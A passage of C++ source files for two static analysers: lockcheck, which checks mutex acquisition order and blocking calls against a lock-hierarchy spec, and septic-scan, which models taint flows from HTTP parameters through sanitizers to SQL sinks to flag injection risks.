      std::string method = pos == std::string::npos
                               ? b.qualified
                               : b.qualified.substr(pos + 2);
      cm.mutex_accessors[method] = b.toks[2].text;
    }
  }
  for (const PendingBody& b : pending_) analyze_body(b);
  pending_.clear();
  return std::move(model_);
}

CodeModel extract_model(
    const std::vector<std::pair<std::string, std::string>>& files) {
  Extractor ex;
  for (const auto& [path, contents] : files) ex.add_file(path, contents);
  return ex.build();
}

}  // namespace septic::analysis::lockcheck

// Extraction: C++ sources -> CodeModel.
//
// Two passes over the token streams (built with the septic-scan lexer,
// preprocessor lines stripped):
//
//   1. Declaration pass — every file is walked for namespaces, classes
//      (one nesting level deep, `Outer::Inner`), their mutex / atomic /
//      typed members, mutex accessor methods, method return types, and
//      function bodies (kept as token slices). Bodies cannot be analyzed
//      yet: a lock like `s.mu` needs the Shard declaration, which may live
//      in a file parsed later.
//   2. Body pass — with the full class table available, each body is
//      walked with a scope stack that tracks RAII guard variables
//      (lock_guard/unique_lock/shared_lock/scoped_lock), try-locks,
//      mid-scope .unlock()/.lock(), direct mutex .lock() calls, and local
//      variable types (declared or inferred from a call's return type).
//      Every acquisition and call is recorded with the exact set of locks
//      held at that token.
//
// Deliberate approximations (see DESIGN.md "What lockcheck does not see"):
// lambda bodies are analyzed inline under the locks held at the lambda's
// definition site, constructor/destructor side effects of locals are not
// modeled, and calls whose receiver type cannot be resolved are dropped.
#pragma once

#include <map>
#include <string>
#include <utility>
#include <vector>

#include "analysis/lockcheck/lock_model.h"
#include "analysis/source_lexer.h"

namespace septic::analysis::lockcheck {

class Extractor {
 public:
  /// Declaration pass for one file's contents.
  void add_file(const std::string& path, const std::string& source);

  /// Body pass over everything added so far; returns the filled model.
  /// May be called once per Extractor.
  CodeModel build();

  /// A function body captured by the declaration pass, waiting for the
  /// body pass (public: the body walker lives in the .cpp's anonymous
  /// namespace).
  struct PendingBody {
    std::string qualified;
    std::string cls;
    std::string file;
    int line = 0;
    /// Token slice of the body, including the braces.
    std::vector<Tok> toks;
    /// Parameter name -> identifier tokens of its declared type, so lock
    /// expressions through parameters (`t.mu_`) resolve.
    std::map<std::string, std::vector<std::string>> params;
  };

 private:
  CodeModel model_;
  std::vector<PendingBody> pending_;

  void analyze_body(const PendingBody& body);
};

/// Convenience: run both passes over (path, contents) pairs.
CodeModel extract_model(
    const std::vector<std::pair<std::string, std::string>>& files);

}  // namespace septic::analysis::lockcheck

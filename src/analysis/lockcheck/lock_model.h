// Data model shared by the lockcheck passes.
//
// lockcheck is the concurrency sibling of septic-scan: where scan walks the
// sample applications for taint flows, lockcheck walks the engine's OWN
// sources and extracts, per function, which mutexes it acquires, in what
// order, and what it calls while holding them. The checker then propagates
// held-lock sets over the call graph and validates every (held, acquired)
// pair against the declared hierarchy in locks.spec.
//
// Lock identity is `Class::member` (`WalWriter::append_mu_`,
// `QmStore::Shard::mu` for nested types). Namespaces are deliberately not
// part of the identity: the spec stays readable and the repo has no
// class-name collisions among lock owners.
#pragma once

#include <map>
#include <set>
#include <string>
#include <vector>

namespace septic::analysis::lockcheck {

/// A mutex the model knows about, e.g. "WalWriter::append_mu_".
using LockId = std::string;

/// One lock acquisition site inside a function body.
struct AcquireEvent {
  LockId lock;            // resolved id, or raw source text if !resolved
  bool resolved = false;  // expression mapped to a known mutex member
  bool try_lock = false;  // std::try_to_lock — cannot block, cannot deadlock
  bool shared = false;    // shared_lock (ordering rules treat it the same)
  std::vector<LockId> held;  // resolved locks held at this point, acq order
  int line = 0;
};

/// One call site with the lock context it runs under.
struct CallEvent {
  /// Candidate callee keys, most specific first ("Class::method", then the
  /// bare name for free functions). The checker uses the first that names
  /// an extracted function; unresolved calls are dropped (documented
  /// soundness gap — see DESIGN.md).
  std::vector<std::string> callees;
  std::vector<LockId> held;
  int line = 0;
};

/// A non-atomic read-modify-write of a std::atomic member
/// (`x_.store(x_.load() + 1)` or `x_ = x_ + 1`) — a lost-update bug the
/// type system cannot catch.
struct RmwEvent {
  std::string member;
  int line = 0;
};

struct FunctionModel {
  std::string qualified;  // "Class::method", or bare name for free functions
  std::string cls;        // enclosing class ("" for free functions)
  std::string file;
  int line = 0;  // line of the definition's opening
  /// Body contains a crashpoint()/SEPTIC_FAILPOINT* site (the crash-matrix
  /// coverage `crashcover` spec entries assert on).
  bool has_failpoint = false;
  std::vector<AcquireEvent> acquires;
  std::vector<CallEvent> calls;
  std::vector<RmwEvent> rmws;
};

struct ClassModel {
  std::string name;  // "WalWriter" or "QmStore::Shard"
  std::set<std::string> mutex_members;
  std::set<std::string> atomic_members;
  /// member name -> identifier tokens of its declared type (resolved to a
  /// class lazily, once every file is parsed).
  std::map<std::string, std::vector<std::string>> member_types;
  /// accessor method -> mutex member it returns (body is `return member;`),
  /// so `std::lock_guard l(txn_mgr_.commit_mu())` resolves to the member.
  std::map<std::string, std::string> mutex_accessors;
  /// method -> identifier tokens of its return type (resolves `auto& s =
  /// shard_for(id)` locals).
  std::map<std::string, std::vector<std::string>> method_return_types;
};

struct CodeModel {
  std::map<std::string, ClassModel> classes;
  std::map<std::string, FunctionModel> functions;  // by qualified name
  /// Return-type tokens of free functions (`auto& r = registry()`).
  std::map<std::string, std::vector<std::string>> free_return_types;
  size_t files_scanned = 0;
};

}  // namespace septic::analysis::lockcheck

// Machine-readable lock-hierarchy spec (locks.spec at the repo root).
//
// The spec is the single source of truth HACKING.md's prose now points at.
// Grammar (one directive per line, `#` comments):
//
//   level <lock>            next rank in the global acquisition chain;
//                           declaration order IS the order (outermost first)
//   leaf <lock>             innermost lock: may be taken under anything,
//                           nothing may be acquired while holding it
//   order <held> <acquired> explicit extra edge two locks are allowed in
//                           (escape hatch for leaf-under-leaf pairs)
//   blocking <fn>           qualified function that can block the caller
//                           (group-commit waits, fsync barriers)
//   noblock <fn> <lock>...  the named blocking function must never run —
//                           directly or through any call chain — while one
//                           of the listed locks is held
//   crashcover <fn>         function must contain a crashpoint() /
//                           SEPTIC_FAILPOINT site (crash-matrix coverage)
#pragma once

#include <cstddef>
#include <map>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "analysis/lockcheck/lock_model.h"

namespace septic::analysis::lockcheck {

struct NoBlockRule {
  std::string fn;
  std::vector<LockId> locks;
};

class LockSpec {
 public:
  /// Parse spec text. Returns false and fills `error` on a malformed line
  /// (unknown directive, missing operand).
  bool parse(const std::string& text, std::string* error);

  bool knows(const LockId& lock) const;
  bool is_leaf(const LockId& lock) const;
  /// Rank in the `level` chain; leaves and unknown locks have no rank.
  /// Returns npos when the lock is not a chain level.
  size_t rank(const LockId& lock) const;

  /// May `acquired` be blocking-acquired while `held` is held?
  /// Both must be known; unknown locks are reported separately.
  bool order_ok(const LockId& held, const LockId& acquired) const;

  bool is_blocking(const std::string& fn) const;
  const std::vector<NoBlockRule>& noblock_rules() const { return noblock_; }
  const std::vector<std::string>& crashcover() const { return crashcover_; }
  const std::vector<LockId>& levels() const { return levels_; }

  static constexpr size_t npos = static_cast<size_t>(-1);

 private:
  std::vector<LockId> levels_;  // rank = index
  std::set<LockId> leaves_;
  std::set<std::pair<LockId, LockId>> extra_order_;
  std::set<std::string> blocking_;
  std::vector<NoBlockRule> noblock_;
  std::vector<std::string> crashcover_;
};

}  // namespace septic::analysis::lockcheck

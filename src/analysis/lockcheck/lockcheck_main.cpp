// lockcheck: interprocedural lock-hierarchy & concurrency-invariant
// analysis over the engine's own sources.
//
//   lockcheck [options] <file-or-dir> [...]
//
//   --spec <path>      lock hierarchy spec (default: locks.spec)
//   --json             machine-readable report (stable bytes, golden-safe)
//   --out <path>       write the report to a file instead of stdout
//   --fail-on <t>      error | warning | none | <finding-class> — findings
//                      at/above the threshold (or of the named class) make
//                      the exit code 1 (default: error)
//
// Directory inputs are walked recursively for *.cpp / *.h. Exit codes:
// 0 clean, 1 gating findings, 2 usage / I/O / spec-parse failure.
#include <algorithm>
#include <cstdio>
#include <exception>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/lockcheck/lock_check.h"
#include "analysis/lockcheck/lock_extract.h"
#include "analysis/lockcheck/lock_spec.h"

namespace {

namespace fs = std::filesystem;

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--spec <path>] [--json] [--out <path>] "
               "[--fail-on error|warning|none|<finding-class>] "
               "<file-or-dir> [...]\n",
               argv0);
  return 2;
}

bool read_file(const std::string& path, std::string* out) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return false;
  std::ostringstream ss;
  ss << in.rdbuf();
  *out = ss.str();
  return true;
}

bool is_source_file(const fs::path& p) {
  return p.extension() == ".cpp" || p.extension() == ".h";
}

bool known_class(const std::string& s) {
  return s == "lock-order-inversion" || s == "blocking-call-under-lock" ||
         s == "atomic-plain-rmw" || s == "unknown-lock" ||
         s == "missing-failpoint-guard";
}

}  // namespace

int main(int argc, char** argv) {
  using namespace septic::analysis::lockcheck;

  bool json = false;
  std::string out_path, spec_path = "locks.spec", fail_on = "error";
  std::vector<std::string> inputs;

  for (int i = 1; i < argc; ++i) {
    std::string arg = argv[i];
    auto next = [&](std::string& dst) {
      if (i + 1 >= argc) return false;
      dst = argv[++i];
      return true;
    };
    if (arg == "--json") {
      json = true;
    } else if (arg == "--out") {
      if (!next(out_path)) return usage(argv[0]);
    } else if (arg == "--spec") {
      if (!next(spec_path)) return usage(argv[0]);
    } else if (arg == "--fail-on") {
      if (!next(fail_on) ||
          (fail_on != "error" && fail_on != "warning" && fail_on != "none" &&
           !known_class(fail_on))) {
        return usage(argv[0]);
      }
    } else if (!arg.empty() && arg[0] == '-') {
      std::fprintf(stderr, "lockcheck: unknown option %s\n", arg.c_str());
      return usage(argv[0]);
    } else {
      inputs.push_back(std::move(arg));
    }
  }
  if (inputs.empty()) return usage(argv[0]);

  std::string spec_text;
  if (!read_file(spec_path, &spec_text)) {
    std::fprintf(stderr, "lockcheck: cannot read spec %s\n",
                 spec_path.c_str());
    return 2;
  }
  LockSpec spec;
  std::string err;
  if (!spec.parse(spec_text, &err)) {
    std::fprintf(stderr, "lockcheck: %s\n", err.c_str());
    return 2;
  }

  // Expand directories, then sort: the scan must be order-independent of
  // the filesystem for golden-stable output.
  std::vector<std::string> files;
  try {
    for (const std::string& input : inputs) {
      if (fs::is_directory(input)) {
        for (const auto& entry : fs::recursive_directory_iterator(input)) {
          if (entry.is_regular_file() && is_source_file(entry.path())) {
            files.push_back(entry.path().generic_string());
          }
        }
      } else {
        files.push_back(input);
      }
    }
  } catch (const std::exception& ex) {
    std::fprintf(stderr, "lockcheck: %s\n", ex.what());
    return 2;
  }
  std::sort(files.begin(), files.end());

  Extractor ex;
  for (const std::string& path : files) {
    std::string contents;
    if (!read_file(path, &contents)) {
      std::fprintf(stderr, "lockcheck: cannot read %s\n", path.c_str());
      return 2;
    }
    ex.add_file(path, contents);
  }
  CodeModel model = ex.build();
  LockReport report = check_model(model, spec, spec_path);

  std::string rendered =
      json ? render_lock_json(report) : render_lock_text(report);
  if (out_path.empty()) {
    std::fputs(rendered.c_str(), stdout);
  } else {
    std::ofstream out(out_path, std::ios::binary);
    if (!out.write(rendered.data(),
                   static_cast<std::streamsize>(rendered.size()))) {
      std::fprintf(stderr, "lockcheck: cannot write %s\n", out_path.c_str());
      return 2;
    }
  }

  size_t gating = 0;
  if (fail_on == "error") {
    gating = report.errors();
  } else if (fail_on == "warning") {
    gating = report.errors() + report.warnings();
  } else if (fail_on != "none") {
    for (const LockFinding& f : report.findings) {
      gating += f.klass == fail_on ? 1 : 0;
    }
  }
  return gating ? 1 : 0;
}

#include "analysis/lockcheck/lock_check.h"

#include <algorithm>
#include <map>
#include <set>

#include "analysis/report.h"  // json_escape

namespace septic::analysis::lockcheck {

namespace {

constexpr const char* kInversion = "lock-order-inversion";
constexpr const char* kBlocking = "blocking-call-under-lock";
constexpr const char* kRmw = "atomic-plain-rmw";
constexpr const char* kUnknownLock = "unknown-lock";
constexpr const char* kMissingFailpoint = "missing-failpoint-guard";

/// Transitive facts per function, computed by fixpoint over the call graph.
struct Summary {
  /// Locks the function may blocking-acquire, directly or through any
  /// callee. Try-lock acquisitions are excluded: they cannot deadlock.
  /// Value = the immediate callee the lock was first reached through
  /// ("" for a direct acquisition) — the witness for messages.
  std::map<LockId, std::string> acq;
  /// Spec-blocking functions reachable from here (including itself).
  /// Value = witness callee as above.
  std::map<std::string, std::string> blockers;
};

struct Checker {
  const CodeModel& model;
  const LockSpec& spec;
  LockReport report;
  std::set<std::string> dedupe;

  /// CallEvent candidates resolved to an extracted function, or "".
  std::string resolve_callee(const CallEvent& ev) const {
    for (const std::string& cand : ev.callees) {
      if (model.functions.count(cand) != 0) return cand;
    }
    return "";
  }

  std::map<std::string, Summary> summarize() const {
    std::map<std::string, Summary> sums;
    for (const auto& [name, fn] : model.functions) {
      Summary& s = sums[name];
      for (const AcquireEvent& a : fn.acquires) {
        if (a.resolved && !a.try_lock) s.acq.emplace(a.lock, "");
      }
      if (spec.is_blocking(name)) s.blockers.emplace(name, "");
    }
    bool changed = true;
    while (changed) {
      changed = false;
      for (const auto& [name, fn] : model.functions) {
        Summary& s = sums[name];
        for (const CallEvent& ev : fn.calls) {
          std::string callee = resolve_callee(ev);
          if (callee.empty() || callee == name) continue;
          const Summary& cs = sums[callee];
          for (const auto& [lock, via] : cs.acq) {
            (void)via;
            if (s.acq.emplace(lock, callee).second) changed = true;
          }
          for (const auto& [b, via] : cs.blockers) {
            (void)via;
            if (s.blockers.emplace(b, callee).second) changed = true;
          }
        }
      }
    }
    return sums;
  }

  void add(const std::string& klass, const std::string& severity,
           const FunctionModel& fn, int line, const std::string& message) {
    std::string key = klass + "|" + fn.file + "|" + std::to_string(line) +
                      "|" + fn.qualified + "|" + message;
    if (!dedupe.insert(key).second) return;
    LockFinding f;
    f.klass = klass;
    f.severity = severity;
    f.file = fn.file;
    f.line = line;
    f.function = fn.qualified;
    f.message = message;
    report.findings.push_back(std::move(f));
  }

  std::string order_message(const LockId& held, const LockId& acquired) const {
    if (held == acquired) {
      return "re-acquires " + acquired + " which is already held";
    }
    if (spec.is_leaf(held)) {
      return "acquires " + acquired + " while holding " + held +
             ", but " + held + " is a leaf lock (innermost: nothing may be "
             "acquired under it)";
    }
    return "acquires " + acquired + " while holding " + held +
           ", against the locks.spec order";
  }

  void check_acquires(const FunctionModel& fn) {
    std::set<std::string> unknown_seen;
    for (const AcquireEvent& a : fn.acquires) {
      if (!a.resolved) {
        if (unknown_seen.insert(a.lock).second) {
          add(kUnknownLock, "warning", fn, a.line,
              "cannot resolve lock expression '" + a.lock +
                  "' to a known mutex member");
        }
        continue;
      }
      if (!spec.knows(a.lock)) {
        if (unknown_seen.insert(a.lock).second) {
          add(kUnknownLock, "warning", fn, a.line,
              "acquires " + a.lock + " which is not declared in locks.spec");
        }
        continue;
      }
      if (a.try_lock) continue;  // cannot block -> cannot invert
      for (const LockId& held : a.held) {
        if (!spec.knows(held)) continue;
        if (!spec.order_ok(held, a.lock)) {
          add(kInversion, "error", fn, a.line, order_message(held, a.lock));
        }
      }
    }
  }

  void check_calls(const FunctionModel& fn,
                   const std::map<std::string, Summary>& sums) {
    for (const CallEvent& ev : fn.calls) {
      if (ev.held.empty()) continue;
      std::string callee = resolve_callee(ev);
      if (callee.empty() || callee == fn.qualified) continue;
      const Summary& cs = sums.at(callee);
      for (const auto& [lock, via] : cs.acq) {
        if (!spec.knows(lock)) continue;
        for (const LockId& held : ev.held) {
          if (!spec.knows(held)) continue;
          if (held == lock) continue;  // helper re-locks: flagged at its site
          if (!spec.order_ok(held, lock)) {
            std::string path = callee + (via.empty() ? "" : " -> " + via);
            add(kInversion, "error", fn, ev.line,
                "call to " + path + " " + order_message(held, lock));
          }
        }
      }
      for (const NoBlockRule& rule : spec.noblock_rules()) {
        auto bit = cs.blockers.find(rule.fn);
        if (bit == cs.blockers.end()) continue;
        for (const LockId& banned : rule.locks) {
          if (std::find(ev.held.begin(), ev.held.end(), banned) ==
              ev.held.end()) {
            continue;
          }
          if (callee == rule.fn) {
            add(kBlocking, "error", fn, ev.line,
                "calls blocking " + rule.fn + " while holding " + banned);
          } else {
            std::string path =
                callee + (bit->second.empty() ? "" : " -> " + bit->second);
            add(kBlocking, "error", fn, ev.line,
                "reaches blocking " + rule.fn + " (via " + path +
                    ") while holding " + banned);
          }
        }
      }
    }
  }

  void check_rmws(const FunctionModel& fn) {
    for (const RmwEvent& r : fn.rmws) {
      add(kRmw, "error", fn, r.line,
          "plain read-modify-write of atomic member " + r.member +
              " loses updates under contention (use fetch_add or a CAS loop)");
    }
  }

  void check_crashcover() {
    for (const std::string& name : spec.crashcover()) {
      auto it = model.functions.find(name);
      // Functions absent from the scanned file set are not reported: the
      // fixture tests run partial file sets against the full repo spec.
      if (it == model.functions.end()) continue;
      if (it->second.has_failpoint) continue;
      add(kMissingFailpoint, "warning", it->second, it->second.line,
          name + " is listed in locks.spec crashcover but contains no "
                 "crashpoint()/SEPTIC_FAILPOINT site");
    }
  }
};

}  // namespace

size_t LockReport::errors() const {
  size_t n = 0;
  for (const LockFinding& f : findings) n += f.severity == "error" ? 1 : 0;
  return n;
}

size_t LockReport::warnings() const {
  size_t n = 0;
  for (const LockFinding& f : findings) n += f.severity == "warning" ? 1 : 0;
  return n;
}

LockReport check_model(const CodeModel& model, const LockSpec& spec,
                       const std::string& spec_path) {
  Checker c{model, spec, {}, {}};
  c.report.spec_path = spec_path;
  c.report.files_scanned = model.files_scanned;
  c.report.functions = model.functions.size();
  std::map<std::string, Summary> sums = c.summarize();
  for (const auto& [name, fn] : model.functions) {
    (void)name;
    c.check_acquires(fn);
    c.check_calls(fn, sums);
    c.check_rmws(fn);
  }
  c.check_crashcover();
  std::sort(c.report.findings.begin(), c.report.findings.end(),
            [](const LockFinding& a, const LockFinding& b) {
              if (a.file != b.file) return a.file < b.file;
              if (a.line != b.line) return a.line < b.line;
              if (a.klass != b.klass) return a.klass < b.klass;
              return a.message < b.message;
            });
  return c.report;
}

std::string render_lock_text(const LockReport& report) {
  std::string t;
  for (const LockFinding& f : report.findings) {
    t += f.file + ":" + std::to_string(f.line) + ": [" + f.severity + "] " +
         f.klass + " in " + f.function + "\n    " + f.message + "\n";
  }
  t += "lockcheck: " + std::to_string(report.files_scanned) + " file(s), " +
       std::to_string(report.functions) + " function(s), " +
       std::to_string(report.errors()) + " error(s), " +
       std::to_string(report.warnings()) + " warning(s)\n";
  return t;
}

std::string render_lock_json(const LockReport& report) {
  std::string j = "{\n  \"tool\": \"lockcheck\",\n  \"spec\": \"" +
                  json_escape(report.spec_path) + "\",\n";
  j += "  \"files_scanned\": " + std::to_string(report.files_scanned) + ",\n";
  j += "  \"functions\": " + std::to_string(report.functions) + ",\n";
  j += "  \"findings\": [";
  for (size_t i = 0; i < report.findings.size(); ++i) {
    const LockFinding& f = report.findings[i];
    j += i ? ",\n    {" : "\n    {";
    j += "\"class\": \"" + json_escape(f.klass) + "\", ";
    j += "\"severity\": \"" + f.severity + "\", ";
    j += "\"file\": \"" + json_escape(f.file) + "\", ";
    j += "\"line\": " + std::to_string(f.line) + ", ";
    j += "\"function\": \"" + json_escape(f.function) + "\", ";
    j += "\"message\": \"" + json_escape(f.message) + "\"}";
  }
  j += report.findings.empty() ? "],\n" : "\n  ],\n";
  j += "  \"summary\": {\"errors\": " + std::to_string(report.errors()) +
       ", \"warnings\": " + std::to_string(report.warnings()) + "}\n}\n";
  return j;
}

}  // namespace septic::analysis::lockcheck

// Token stream over the C++ subset the sample applications are written in
// (web/apps/*.cpp). septic-scan does not need a real C++ front end: the
// handlers follow one idiom — `param(request, "k")` sources, sanitizer
// wrappers, `+` concatenation, `ctx.sql(...)` sinks — and a flat token
// stream plus a tiny statement grammar (analysis/dataflow.cpp) covers it.
//
// The lexer strips // and /* */ comments (string-aware: a "/*" inside a SQL
// string literal is literal text, not a comment), decodes the usual string
// escapes, and records line numbers so findings can point at source lines.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace septic::analysis {

enum class TokKind {
  kIdent,   // identifier or keyword
  kString,  // string literal, text = decoded contents
  kNumber,  // integer or floating literal
  kPunct,   // operator / punctuation, multi-char ops kept whole
  kEnd,     // one-past-last sentinel
};

struct Tok {
  TokKind kind = TokKind::kEnd;
  std::string text;
  int line = 0;  // 1-based source line

  bool is(TokKind k, std::string_view t) const {
    return kind == k && text == t;
  }
  bool is_punct(std::string_view t) const { return is(TokKind::kPunct, t); }
  bool is_ident(std::string_view t) const { return is(TokKind::kIdent, t); }
};

/// Tokenize a whole translation unit. Never throws: unrecognized bytes are
/// skipped (they only occur outside the constructs the scanner walks).
std::vector<Tok> lex_cpp(std::string_view source);

/// Blank out preprocessor logical lines (`#include`, `#define` + backslash
/// continuations, ...) while preserving byte offsets of every other line,
/// so token line numbers survive. lockcheck runs this before lex_cpp: a
/// multi-line macro definition would otherwise unbalance the brace
/// tracking its parser relies on.
std::string strip_preprocessor(std::string_view source);

}  // namespace septic::analysis

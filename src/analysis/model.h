// septic-scan's dataflow IR and report model.
//
// A handler's query argument is abstracted as a sequence of *fragments*:
// literal SQL text interleaved with tainted values (HTTP parameters or
// values read back from the database), each carrying the chain of
// sanitizers applied on the way to the sink. Findings are classified per
// tainted fragment against its *sink context* (inside a quoted SQL string
// vs. raw/numeric position) — the static counterpart of the paper's
// semantic-mismatch taxonomy: a string escaper protects only quoted
// contexts, an HTML encoder protects no SQL context at all.
#pragma once

#include <string>
#include <vector>

namespace septic::analysis {

// ----------------------------------------------------------------- values

enum class Origin {
  kLiteral,  // compile-time SQL text
  kParam,    // HTTP parameter (framework.h request params)
  kStored,   // read back from a prior query's result set (second order)
  kTrusted,  // engine-generated numeric (last_insert_id etc.)
};

enum class Sanitizer {
  kMysqlRealEscapeString,
  kAddslashes,
  kIntval,
  kFloatval,
  kHtmlSpecialChars,
  kHtmlEntities,
  kStripTags,
  kPreparedBind,  // value travels as a bound parameter, not statement text
};

const char* origin_name(Origin o);
const char* sanitizer_name(Sanitizer s);

struct Fragment {
  Origin origin = Origin::kLiteral;
  std::string text;    // literal: SQL text; tainted: source description
  std::string source;  // param name or "stored:<site>" for kStored
  std::vector<Sanitizer> sanitizers;  // in application order
  bool numeric = false;  // value is numeric-typed (intval/coerce_int/...)
  int line = 0;          // source line of the fragment's origin

  bool tainted() const {
    return origin == Origin::kParam || origin == Origin::kStored;
  }
  static Fragment literal(std::string text) {
    Fragment f;
    f.text = std::move(text);
    return f;
  }
};

// ------------------------------------------------------------------ sinks

/// Where a tainted fragment lands inside the statement text.
enum class SinkContext { kQuoted, kRaw };

const char* sink_context_name(SinkContext c);

/// One evaluated variant of one ctx.sql / ctx.sql_prepared call site (a
/// call site yields several variants when the handler builds the query
/// conditionally, e.g. refbase's optional `AND year = ...`).
struct SinkVariant {
  std::string site;               // the handler-supplied site label
  std::string route;              // "/search" — innermost route condition
  int line = 0;                   // line of the ctx.sql call
  bool prepared = false;          // went through sql_prepared
  std::vector<Fragment> fragments;

  /// Human-readable template: literal text with tainted slots rendered as
  /// {param:name}, {stored:site}, {trusted}.
  std::string template_text() const;
  /// Concrete benign statement: quoted slots -> x, raw slots -> 1.
  std::string benign_text() const;
};

// --------------------------------------------------------------- findings

enum class FindingClass {
  kTaintedUnsanitized,     // direct parameter reaches the sink unprotected
  kStoredUnsanitized,      // second-order: DB value re-enters a query
  kEscapeNumericMismatch,  // string escaper feeding an unquoted context
  kHtmlSqlMismatch,        // HTML encoder is the only "protection"
  kTemplateParseError,     // derived template is not parseable SQL
};

enum class Severity { kWarning, kError };

const char* finding_class_name(FindingClass c);
const char* severity_name(Severity s);

struct Finding {
  FindingClass klass = FindingClass::kTaintedUnsanitized;
  Severity severity = Severity::kError;
  std::string route;
  std::string site;
  std::string source;  // offending parameter / stored origin
  SinkContext context = SinkContext::kRaw;
  std::vector<Sanitizer> sanitizers;
  int line = 0;
  std::string message;

  bool operator==(const Finding&) const = default;
};

// ------------------------------------------------------------------ rules

/// The annotation tables: which function names are sources, sanitizers and
/// sinks. Extendable so new apps can register their own helpers (see
/// HACKING.md "Adding a sanitizer/sink annotation").
struct ScanRules {
  /// Functions returning a raw HTTP parameter; the scanner requires the
  /// call shape `<name>(<request-var>, "<key>")`.
  std::vector<std::string> source_fns = {"param"};
  struct SanitizerFn {
    std::string name;  // unqualified callee name
    Sanitizer kind;
    bool numeric_result;  // value can no longer carry SQL structure
  };
  std::vector<SanitizerFn> sanitizer_fns = {
      {"mysql_real_escape_string", Sanitizer::kMysqlRealEscapeString, false},
      {"addslashes", Sanitizer::kAddslashes, false},
      {"intval", Sanitizer::kIntval, true},
      {"floatval", Sanitizer::kFloatval, true},
      {"htmlspecialchars", Sanitizer::kHtmlSpecialChars, false},
      {"htmlentities", Sanitizer::kHtmlEntities, false},
      {"strip_tags", Sanitizer::kStripTags, false},
  };
  /// Query-issuing methods on the AppContext parameter.
  std::string sink_method = "sql";
  std::string sink_prepared_method = "sql_prepared";
};

// ----------------------------------------------------------------- output

struct HandlerNote {
  int line = 0;
  std::string message;  // scanner limitation hit (unknown call, path cap…)
};

struct AppScan {
  std::string app;   // external-ID application name ("tickets")
  std::string file;  // basename of the scanned source
  std::vector<SinkVariant> sinks;     // source order, variants grouped
  std::vector<Finding> findings;      // sorted, deduplicated
  std::vector<HandlerNote> notes;

  size_t count(Severity s) const;
};

}  // namespace septic::analysis

// septic_scan: static taint analysis + offline QM pre-training over the
// sample-app handler sources.
//
//   septic_scan [options] <handler.cpp> [more.cpp ...]
//
//   --json             machine-readable report (stable bytes, golden-safe)
//   --out <path>       write the report to a file instead of stdout
//   --qm-out <path>    save the pre-trained QM store (v2, CRC-checked);
//                      the file is reloaded afterwards as a self-check
//   --app <name>       external-ID app name (single input only; defaults
//                      to the file stem)
//   --fail-on <t>      error | warning | none — findings at or above the
//                      threshold make the exit code 1 (default: error)
//
// Exit codes: 0 clean, 1 findings at/above --fail-on, 2 usage or I/O
// failure — CI can gate on "non-zero means broken".
#include <cstdio>
#include <exception>
#include <fstream>
#include <string>
#include <vector>

#include "analysis/scanner.h"

namespace {

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--json] [--out <path>] [--qm-out <path>] "
               "[--app <name>] [--fail-on error|warning|none] "
               "<handler.cpp> [...]\n",
               argv0);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace septic::analysis;

  bool json = false;
  std::string out_path, qm_path, app_name, fail_on = "error";
  std::vector<std::string> inputs;

  for (int i = 1; i < argc; ++i) {
    std::string arg = argv[i];
    auto next = [&](std::string& dst) {
      if (i + 1 >= argc) return false;
      dst = argv[++i];
      return true;
    };
    if (arg == "--json") {
      json = true;
    } else if (arg == "--out") {
      if (!next(out_path)) return usage(argv[0]);
    } else if (arg == "--qm-out") {
      if (!next(qm_path)) return usage(argv[0]);
    } else if (arg == "--app") {
      if (!next(app_name)) return usage(argv[0]);
    } else if (arg == "--fail-on") {
      if (!next(fail_on) ||
          (fail_on != "error" && fail_on != "warning" && fail_on != "none")) {
        return usage(argv[0]);
      }
    } else if (!arg.empty() && arg[0] == '-') {
      std::fprintf(stderr, "septic_scan: unknown option %s\n", arg.c_str());
      return usage(argv[0]);
    } else {
      inputs.push_back(std::move(arg));
    }
  }
  if (inputs.empty()) return usage(argv[0]);
  if (!app_name.empty() && inputs.size() > 1) {
    std::fprintf(stderr, "septic_scan: --app requires a single input\n");
    return 2;
  }

  septic::core::QmStore store;
  ScanReport report;
  try {
    for (const std::string& path : inputs) {
      report.apps.push_back(scan_file(path, app_name, store));
    }
  } catch (const std::exception& ex) {
    std::fprintf(stderr, "septic_scan: %s\n", ex.what());
    return 2;
  }

  std::string rendered = json ? render_json(report) : render_text(report);
  if (out_path.empty()) {
    std::fputs(rendered.c_str(), stdout);
  } else {
    std::ofstream out(out_path, std::ios::binary);
    if (!out.write(rendered.data(),
                   static_cast<std::streamsize>(rendered.size()))) {
      std::fprintf(stderr, "septic_scan: cannot write %s\n",
                   out_path.c_str());
      return 2;
    }
  }

  if (!qm_path.empty()) {
    try {
      store.save_to_file(qm_path);
      // Self-check: a store we cannot load back cleanly is useless for the
      // zero-training boot, so treat it as a hard failure here and now.
      septic::core::QmStore reloaded;
      septic::core::QmLoadReport lr = reloaded.load_from_file(qm_path);
      if (!lr.clean() || reloaded.model_count() != store.model_count()) {
        std::fprintf(stderr,
                     "septic_scan: QM store round-trip failed (%zu/%zu "
                     "models, %zu skipped)\n",
                     reloaded.model_count(), store.model_count(), lr.skipped);
        return 2;
      }
      std::fprintf(stderr, "septic_scan: wrote %zu model(s) under %zu id(s) "
                           "to %s\n",
                   store.model_count(), store.id_count(), qm_path.c_str());
    } catch (const std::exception& ex) {
      std::fprintf(stderr, "septic_scan: %s\n", ex.what());
      return 2;
    }
  }

  size_t gating = report.errors();
  if (fail_on == "warning") gating += report.warnings();
  if (fail_on == "none") gating = 0;
  return gating ? 1 : 0;
}

#include "analysis/dataflow.h"

#include <algorithm>
#include <map>
#include <set>

#include "analysis/source_lexer.h"

namespace septic::analysis {

namespace {

enum class TriBool { kFalse, kTrue, kUnknown };

/// Abstract value: a fragment sequence, or the opaque result set of an
/// earlier sink (tracked so `.rows[...][...].coerce_*()` reads become
/// stored-origin fragments of that site).
struct AbsVal {
  std::vector<Fragment> frags;
  bool is_result = false;
  std::string result_site;
};

/// One explored execution path.
struct World {
  std::map<std::string, AbsVal> env;
  std::map<std::string, bool> known_empty;  // `.empty()` outcomes fixed here
};

class Analyzer {
 public:
  Analyzer(std::string_view source, const ScanOptions& opts, AppScan& out)
      : toks_(lex_cpp(source)), opts_(opts), out_(out) {}

  void run() {
    bool found = false;
